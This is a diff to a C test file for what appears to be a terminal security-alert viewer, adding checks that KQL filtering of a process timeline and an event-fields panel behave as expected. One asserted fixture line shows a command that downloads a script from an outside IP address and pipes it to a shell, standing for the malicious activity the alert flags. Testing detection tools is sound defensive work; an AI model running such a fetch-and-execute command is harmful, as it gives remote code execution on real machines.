@@ -824,6 +824,20 @@ static void test_sequence_alert_related_alerts_and_rule_notes(void **state)
 	assert_true(screen_has("▶ └─ ZoomUpdate (pid 745) amara 2026-11-20T08:05:28Z [2 alerts]"));
 	keys("q");
 	assert_true(screen_has("±600s · all processes"));
+	/* \ filters the timeline by KQL: the shell's events, and the alert's own always */
+	keys("\\process.name:sh\n");
+	assert_true(screen_has("· KQL process.name:sh"));
+	assert_true(screen_has("/bin/sh -c curl -s http://203.0.113.77/k | sh"));
+	assert_false(screen_has("launchctl kickstart"));
+	assert_true(screen_has("▶ 08:05:29 file/modification    ZoomUpdate"));
+	/* i: the selected event's fields; Enter keeps the events with the value under the cursor */
+	keys("i");
+	assert_true(screen_has("Event fields"));
+	assert_true(screen_has("file.path"));
+	keys("-");
+	assert_true(screen_has("· KQL (process.name:sh) and not "));
+	keys("\\\x15\n"); /* Ctrl-U empties the prompt: no filter */
+	assert_false(screen_has("· KQL"));
 	keys("q");
 	keys("k\n"); /* the seed rule's alert on the same write: the sequence is among its related alerts */
 	app_draw(app);
